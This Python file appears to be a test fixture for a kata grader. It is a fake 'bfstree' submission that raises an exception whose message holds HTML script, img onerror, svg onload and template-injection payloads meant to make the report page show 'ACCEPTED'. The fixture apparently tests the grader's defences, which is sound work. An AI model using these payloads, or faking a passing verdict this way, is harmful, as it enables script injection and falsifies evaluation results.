"""raises an exception whose message is a page with a script that says ACCEPTED

Kata: bfstree
Naive: breaks
Verdict: CRASHED
"""


def serialize(root):
    raise RuntimeError(
        "</pre></details></script><script>document.body.innerHTML='<h1>ACCEPTED</h1>'</script>"
        "<img src=x onerror=alert(1)>\"'><svg/onload=alert(2)>{{7*7}}<!--"
    )


def deserialize(data):
    return None
